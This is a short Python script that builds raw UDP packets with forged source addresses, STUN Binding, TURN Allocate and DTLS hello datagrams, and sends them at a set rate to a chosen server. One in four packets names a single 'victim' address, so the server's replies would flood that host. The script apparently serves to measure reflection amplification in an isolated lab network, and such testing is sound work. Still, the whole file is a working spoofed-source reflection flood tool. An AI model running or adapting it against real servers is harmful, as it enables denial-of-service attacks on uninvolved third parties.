#!/usr/bin/env python3
"""flood.py ADDRESS PORT SECONDS RATE HELLO - datagrams for ADDRESS:PORT, RATE a second, whose senders are made up: 203.0.112.0/20, one in four of
203.0.112.7, whom somebody wants to be flooded with answers. One after the other: a STUN Binding, one of 203.0.112.7, a TURN Allocate, a DTLS hello (HELLO, hex).
As root, in a network of its own. Prints how many were sent, and how many bytes left and came at its interface.

    {"sent": {"binding": N, ...}, "out_bytes": N, "in_bytes": N}
"""
import json
import pathlib
import random
import socket
import struct
import sys
import time

NETWORK = int.from_bytes(socket.inet_aton("203.0.112.0"), "big")
VICTIM = NETWORK + 7


def interface_bytes():
    """(in, out) of all interfaces but the loopback."""
    rows = [line.split() for line in pathlib.Path("/proc/net/dev").read_text(encoding="ascii").splitlines()[2:]]
    return [sum(int(row[column]) for row in rows if row[0] != "lo:") for column in (1, 9)]


def datagram(source, target, port, payload):
    """With an IP header; the system fills in its checksum, UDP's is left out."""
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(payload), 0)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), random.randrange(1, 65536), 0, 64, socket.IPPROTO_UDP, 0,
                       source.to_bytes(4, "big"), target) + udp + payload


def main():
    target, port, seconds, rate = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    hello = bytes.fromhex(sys.argv[5])
    kinds = (("binding", b"\x00\x01", False), ("binding_of_one", b"\x00\x01", True), ("allocate", b"\x00\x03", False), ("hello", None, False))
    sent = dict.fromkeys((name for name, _, _ in kinds), 0)
    before = interface_bytes()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        begun, count = time.monotonic(), 0
        while (passed := time.monotonic() - begun) < seconds:
            if count > passed * rate:
                time.sleep(0.005)
                continue
            name, method, one = kinds[count % len(kinds)]
            payload = hello if method is None else method + b"\x00\x00\x21\x12\xa4\x42" + random.randbytes(12)
            s.sendto(datagram(VICTIM if one else NETWORK + random.randrange(4096), target, port, payload), (sys.argv[1], 0))
            sent[name] += 1
            count += 1
    time.sleep(0.5)
    after = interface_bytes()
    print(json.dumps({"sent": sent, "in_bytes": after[0] - before[0], "out_bytes": after[1] - before[1]}))


main()
